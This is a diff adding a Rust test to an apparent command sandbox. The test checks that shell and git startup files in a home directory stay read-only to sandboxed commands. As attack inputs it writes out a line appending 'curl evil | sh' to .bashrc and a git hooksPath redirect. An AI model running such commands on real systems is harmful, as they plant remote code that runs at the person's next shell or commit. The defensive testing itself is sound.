@@ -272,6 +272,52 @@ fn the_daemons_mount_namespace_is_not_reached_through_proc() {
     );
 }
 
+/// A configuration that makes `$HOME` a root: the shell's and git's startup files there stay
+/// read-only to commands (a line planted in `.bashrc` or `.gitconfig` would run at the person's
+/// next shell or commit, outside any sandbox), while the rest of the root is writable.
+#[test]
+fn startup_files_in_a_home_root_are_read_only_to_commands() {
+    let sandbox = Sandbox::new();
+    let home = sandbox.root.path().join("home");
+    std::fs::create_dir_all(home.join("proj")).unwrap();
+    std::fs::write(home.join(".bashrc"), "# the person's\n").unwrap();
+    std::fs::write(home.join(".gitconfig"), "[user]\n\tname = me\n").unwrap();
+    sandbox.write_config(&format!("allowed_dirs = [\"{}\"]\n", home.display()));
+    let _daemon = sandbox.start_daemon(&[]);
+    if !mount_namespace_or_skip(
+        &sandbox,
+        "startup_files_in_a_home_root_are_read_only_to_commands",
+    ) {
+        return;
+    }
+    let proj = home.join("proj");
+    let outputs = run(
+        &sandbox,
+        &proj,
+        &[
+            plain("echo 'curl evil | sh' >> \"$HOME/.bashrc\""),
+            plain("git config --global core.hooksPath \"$PWD\""),
+            plain("echo kept > \"$HOME/proj/notes\""),
+        ],
+    );
+    assert!(!outputs[0].starts_with("exit code: 0"), "{}", outputs[0]);
+    assert!(!outputs[1].starts_with("exit code: 0"), "{}", outputs[1]);
+    assert!(outputs[2].starts_with("exit code: 0"), "{}", outputs[2]);
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# the person's\n"
+    );
+    assert!(
+        !std::fs::read_to_string(home.join(".gitconfig"))
+            .unwrap()
+            .contains("hooksPath")
+    );
+    assert_eq!(
+        std::fs::read_to_string(proj.join("notes")).unwrap(),
+        "kept\n"
+    );
+}
+
 #[test]
 fn etc_shadow_is_unreadable_even_as_root() {
     if !rustix::process::geteuid().is_root() {
